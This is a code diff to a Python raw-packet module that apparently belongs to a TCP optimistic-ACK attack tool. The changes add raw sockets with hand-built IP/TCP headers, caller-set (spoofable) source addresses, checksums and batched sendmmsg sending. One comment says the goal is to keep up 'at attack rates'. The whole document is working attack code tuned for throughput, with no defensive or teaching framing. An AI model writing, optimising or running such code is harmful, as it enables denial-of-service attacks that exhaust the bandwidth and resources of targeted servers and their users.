@@ -1,11 +1,58 @@
+import ctypes
 import socket
 import random
+import struct
 import threading
 import sys
 import platform
 import subprocess
 import time
 
+# sendmmsg(2) ships a whole batch of packets in one syscall; resolved via
+# ctypes since the socket module does not expose it
+try:
+    _libc = ctypes.CDLL('libc.so.6', use_errno=True)
+    _HAS_SENDMMSG = hasattr(_libc, 'sendmmsg')
+except OSError:
+    _libc = None
+    _HAS_SENDMMSG = False
+
+class _iovec(ctypes.Structure):
+    _fields_ = [('iov_base', ctypes.c_void_p), ('iov_len', ctypes.c_size_t)]
+
+class _sockaddr_in(ctypes.Structure):
+    _fields_ = [('sin_family', ctypes.c_ushort), ('sin_port', ctypes.c_uint16),
+                ('sin_addr', ctypes.c_uint32), ('sin_zero', ctypes.c_char * 8)]
+
+class _msghdr(ctypes.Structure):
+    _fields_ = [('msg_name', ctypes.c_void_p), ('msg_namelen', ctypes.c_uint32),
+                ('msg_iov', ctypes.POINTER(_iovec)), ('msg_iovlen', ctypes.c_size_t),
+                ('msg_control', ctypes.c_void_p), ('msg_controllen', ctypes.c_size_t),
+                ('msg_flags', ctypes.c_int)]
+
+class _mmsghdr(ctypes.Structure):
+    _fields_ = [('msg_hdr', _msghdr), ('msg_len', ctypes.c_uint)]
+
+# Packets are queued and flushed in batches so per-packet submission cost
+# (subprocess/syscall) is paid once per batch instead of once per ACK
+SEND_BATCH_SIZE = 32
+
+# Simulated-packet log lines are buffered and written in one call every
+# this many packets instead of six print() calls per packet
+SIM_LOG_BATCH_SIZE = 256
+
+def _connection_key(ip, port):
+    # Packed 64-bit int key: cheaper to hash than the old "ip:port" f-string
+    return (struct.unpack('!I', socket.inet_aton(ip))[0] << 16) | port
+
+def _rfc1071_checksum(buf):
+    if len(buf) % 2:
+        buf += b'\x00'
+    total = sum(struct.unpack(f'!{len(buf) // 2}H', buf))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return (~total) & 0xFFFF
+
 class RawSocketManager:
     def __init__(self):
         self.raw_socket = None
@@ -13,6 +60,10 @@ class RawSocketManager:
         self.is_initialized = False
         self.local_ip = ''
         self.local_port = 0
+        self._pending = []
+        self._sim_log = []
+        self._platform_send = None
+        self._hping3_available = False
         # Initialization is not immediate; must call initialize()
 
     def initialize(self):
@@ -22,11 +73,21 @@ class RawSocketManager:
         # Get local IP first
         self.local_ip = self.get_local_ip()
         self.local_port = random.randint(20000, 50000)
+        # Resolve the platform dispatch and tool availability once instead
+        # of re-checking on every packet
+        self._platform_send = {
+            'linux': self.send_linux_raw_packet,
+            'darwin': self.send_macos_raw_packet,
+            'windows': self.send_windows_raw_packet,
+        }.get(platform.system().lower(), lambda packet: False)
+        self._hping3_available = subprocess.call(
+            ['which', 'hping3'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0
         try:
             # Try to create raw socket (requires privileges)
             try:
-                self.raw_socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-                self.raw_socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+                self.raw_socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+                self.raw_socket.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+                self._init_header_template()
                 print('✅ Raw socket created successfully')
             except Exception as socket_error:
                 print('⚠️  Raw socket creation failed (expected without root):', socket_error)
@@ -41,6 +102,16 @@ class RawSocketManager:
             print('❌ Failed to initialize socket manager:', error)
             self.is_initialized = True  # Set to true anyway to allow simulation mode
 
+    def _init_header_template(self):
+        # 40-byte IP+TCP header template; constant fields are packed once and
+        # only the per-packet fields get patched before each sendto
+        buf = bytearray(40)
+        struct.pack_into('!BBH', buf, 0, 0x45, 0, 40)   # version/IHL, TOS, total length
+        struct.pack_into('!HHBB', buf, 4, 0, 0x4000, 64, socket.IPPROTO_TCP)  # id, DF, TTL, proto
+        struct.pack_into('!B', buf, 32, 5 << 4)          # TCP data offset: 5 words
+        struct.pack_into('!B', buf, 33, 0x10)            # flags: ACK
+        self._header_buf = buf
+
     def get_local_ip(self):
         try:
             # Get outbound interface IP by connecting to a public IP (won't actually send)
@@ -55,7 +126,55 @@ class RawSocketManager:
     def send_packet(self, packet):
         if not self.is_initialized:
             raise Exception('Socket manager not initialized. Call initialize() first.')
+        self._pending.append(packet)
+        if len(self._pending) >= SEND_BATCH_SIZE:
+            self.flush()
+
+    def flush(self):
+        if self._pending:
+            pending, self._pending = self._pending, []
+            if (self.raw_socket is not None and _HAS_SENDMMSG
+                    and len(pending) > 1 and self._sendmmsg_batch(pending)):
+                pass
+            else:
+                for packet in pending:
+                    self._send_one(packet)
+        self._flush_sim_log()
+
+    def _sendmmsg_batch(self, pending):
+        # One syscall for the whole batch; falls back to the per-packet path
+        # (by returning False) if the call is unavailable or fails outright
+        try:
+            n = len(pending)
+            bufs = []
+            addrs = []
+            iovecs = (_iovec * n)()
+            hdrs = (_mmsghdr * n)()
+            for i, packet in enumerate(pending):
+                bufs.append(ctypes.create_string_buffer(
+                    bytes(self._pack_raw_packet(packet)), 40))
+                # Keep the dest address bytes in network order in memory
+                addrs.append(_sockaddr_in(
+                    socket.AF_INET, 0,
+                    struct.unpack('=I', socket.inet_aton(packet['dest_ip']))[0]))
+                iovecs[i].iov_base = ctypes.cast(bufs[i], ctypes.c_void_p)
+                iovecs[i].iov_len = 40
+                hdrs[i].msg_hdr.msg_name = ctypes.cast(
+                    ctypes.pointer(addrs[i]), ctypes.c_void_p)
+                hdrs[i].msg_hdr.msg_namelen = ctypes.sizeof(_sockaddr_in)
+                hdrs[i].msg_hdr.msg_iov = ctypes.pointer(iovecs[i])
+                hdrs[i].msg_hdr.msg_iovlen = 1
+            sent = _libc.sendmmsg(self.raw_socket.fileno(), hdrs, n, 0)
+            if sent < 0:
+                return False
+            # Partial batch: push the unsent tail through the per-packet path
+            for packet in pending[sent:]:
+                self._send_one(packet)
+            return True
+        except Exception:
+            return False
 
+    def _send_one(self, packet):
         try:
             # Try to send real raw TCP packet
             if self.send_raw_tcp_packet(packet):
@@ -71,24 +190,40 @@ class RawSocketManager:
 
     def send_raw_tcp_packet(self, packet):
         try:
-            system = platform.system().lower()
-            if system == 'linux':
-                return self.send_linux_raw_packet(packet)
-            elif system == 'windows':
-                return self.send_windows_raw_packet(packet)
-            elif system == 'darwin':
-                return self.send_macos_raw_packet(packet)
-            return False
+            if self.raw_socket is not None:
+                return self.send_via_raw_socket(packet)
+            return self._platform_send(packet)
         except Exception as error:
             print('Raw packet sending failed:', error)
             return False
 
+    def _pack_raw_packet(self, packet):
+        buf = self._header_buf
+        src = socket.inet_aton(packet['source_ip'])
+        dst = socket.inet_aton(packet['dest_ip'])
+        # IP header: addresses, then checksum over the first 20 bytes
+        struct.pack_into('!4s4s', buf, 12, src, dst)
+        struct.pack_into('!H', buf, 10, 0)
+        struct.pack_into('!H', buf, 10, _rfc1071_checksum(bytes(buf[:20])))
+        # TCP header: ports, seq/ack, window, then pseudo-header checksum
+        struct.pack_into('!HHII', buf, 20,
+                         packet['source_port'], packet['dest_port'],
+                         packet['sequence_number'] & 0xFFFFFFFF,
+                         packet['ack_number'] & 0xFFFFFFFF)
+        struct.pack_into('!H', buf, 34, packet['window_size'])
+        struct.pack_into('!H', buf, 36, 0)
+        pseudo = struct.pack('!4s4sBBH', src, dst, 0, socket.IPPROTO_TCP, 20)
+        struct.pack_into('!H', buf, 36, _rfc1071_checksum(pseudo + bytes(buf[20:])))
+        return buf
+
+    def send_via_raw_socket(self, packet):
+        self.raw_socket.sendto(self._pack_raw_packet(packet), (packet['dest_ip'], 0))
+        return True
+
     def send_linux_raw_packet(self, packet):
         try:
-            # Check if hping3 is available
-            if subprocess.call(['which', 'hping3'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) != 0:
-                print('📦 hping3 not found, trying Python scapy...')
-                return self.send_via_python(packet)
+            if not self._hping3_available:
+                return False
             command = [
                 'timeout', '5', 'hping3', '-c', '1', '-A',
                 '-p', str(packet['dest_port']),
@@ -104,45 +239,7 @@ class RawSocketManager:
                 print('🔒 hping3 requires root privileges, falling back...')
                 return False
         except Exception:
-            return self.send_via_python(packet)
-
-    def send_via_python(self, packet):
-        # Attempts to use scapy if available
-        scapy_script = f"""
-import sys
-try:
-    from scapy.all import *
-    import os
-    if os.geteuid() != 0:
-        print("NEED_ROOT")
-        sys.exit(1)
-    ip = IP(src="{packet['source_ip']}", dst="{packet['dest_ip']}")
-    tcp = TCP(sport={packet['source_port']}, dport={packet['dest_port']},
-              flags="A", seq={packet['sequence_number']}, ack={packet['ack_number']},
-              window={packet['window_size']})
-    pkt = ip/tcp
-    send(pkt, verbose=0)
-    print("SUCCESS")
-except ImportError:
-    print("SCAPY_NOT_FOUND")
-except Exception as e:
-    print(f"ERROR: {{e}}")
-"""
-        proc = subprocess.Popen(
-            ['python3', '-c', scapy_script],
-            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
-        )
-        out, err = proc.communicate()
-        if "SUCCESS" in out:
-            print(f'🐍 Raw TCP packet sent via Scapy: ACK={packet["ack_number"]}')
-            return True
-        elif "NEED_ROOT" in out:
-            print('🔒 Python scapy requires root privileges')
-            return False
-        elif "SCAPY_NOT_FOUND" in out:
-            print('📦 Python scapy not installed')
             return False
-        return False
 
     def send_windows_raw_packet(self, packet):
         print('💻 Windows raw packet injection not implemented yet')
@@ -153,7 +250,7 @@ except Exception as e:
 
     def send_via_socket_manipulation(self, packet):
         try:
-            connection_key = f"{packet['dest_ip']}:{packet['dest_port']}"
+            connection_key = _connection_key(packet['dest_ip'], packet['dest_port'])
             sock = self.connections.get(connection_key)
             if not sock or getattr(sock, 'closed', False):
                 print(f"🔌 Socket manipulation: Would send ACK via existing connection")
@@ -166,12 +263,22 @@ except Exception as e:
             return False
 
     def simulate_optimistic_ack(self, packet):
-        print(f"📦 OPTIMISTIC ACK PACKET (Simulated - no root access):")
-        print(f"├─ {packet['source_ip']}:{packet['source_port']} → {packet['dest_ip']}:{packet['dest_port']}")
-        print(f"├─ SEQ: {packet['sequence_number']} | ACK: {packet['ack_number']} (OPTIMISTIC +{packet['ack_number']})")
-        print(f"├─ Window: {packet['window_size']} bytes")
-        print(f"├─ Flags: ACK")
-        print(f"└─ Effect: Would make server think client received {packet['ack_number']} bytes")
+        # Buffer one compact line per packet; at attack rates the original
+        # six print() calls per packet blocked the send path on TTY I/O
+        self._sim_log.append(
+            f"📦 SIMULATED ACK {packet['source_ip']}:{packet['source_port']} → "
+            f"{packet['dest_ip']}:{packet['dest_port']} | "
+            f"SEQ: {packet['sequence_number']} | ACK: {packet['ack_number']} | "
+            f"Window: {packet['window_size']} | Flags: ACK\n"
+        )
+        if len(self._sim_log) >= SIM_LOG_BATCH_SIZE:
+            self._flush_sim_log()
+
+    def _flush_sim_log(self):
+        if not self._sim_log:
+            return
+        lines, self._sim_log = self._sim_log, []
+        sys.stdout.write(''.join(lines))
 
     def establish_connection(self, target_ip, target_port):
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
@@ -181,8 +288,7 @@ except Exception as e:
             sock.connect((target_ip, target_port))
             print(f"🔗 TCP connection established to {target_ip}:{target_port}")
             self.local_ip, self.local_port = sock.getsockname()
-            connection_key = f"{target_ip}:{target_port}"
-            self.connections[connection_key] = sock
+            self.connections[_connection_key(target_ip, target_port)] = sock
             return sock
         except Exception as error:
             print(f"❌ Connection error: {error}")
@@ -196,10 +302,11 @@ except Exception as e:
         return self.is_initialized
 
     def close(self):
+        self.flush()
         for key, sock in self.connections.items():
             try:
                 sock.close()
-                print(f"🔌 Closed connection to {key}")
+                print(f"🔌 Closed connection to {socket.inet_ntoa(struct.pack('!I', key >> 16))}:{key & 0xFFFF}")
             except Exception:
                 pass
         self.connections.clear()